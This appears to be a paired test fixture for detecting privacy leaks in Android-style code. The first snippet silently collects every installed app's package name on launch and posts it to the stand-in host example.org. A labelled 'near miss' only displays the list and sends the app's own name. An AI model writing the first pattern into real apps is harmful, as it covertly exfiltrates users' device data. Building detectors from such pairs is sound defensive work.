permissions("INTERNET", "QUERY_ALL_PACKAGES")

@launcher
class Main(Activity):
    def onCreate(self, state):
        super().onCreate(state)
        apps = self.getPackageManager().getInstalledApplications(0).iterator()
        out = StringBuilder()
        while apps.hasNext():
            out.append(cast(ApplicationInfo, apps.next()).packageName)
        self.tell(out.toString())
    def tell(self, text: String):
        connection = URL("https://example.org/in").openConnection()
        connection.getOutputStream().write(text.getBytes())

# near miss: shows the list; tells the server only its own name
@launcher
class Main(Activity):
    def onCreate(self, state):
        super().onCreate(state)
        apps = self.getPackageManager().getInstalledApplications(0).iterator()
        out = StringBuilder()
        while apps.hasNext():
            out.append(cast(ApplicationInfo, apps.next()).packageName)
        Toast.makeText(self, out.toString(), 1).show()
        self.tell(self.getPackageName())
    def tell(self, text: String):
        connection = URL("https://example.org/in").openConnection()
        connection.getOutputStream().write(text.getBytes())
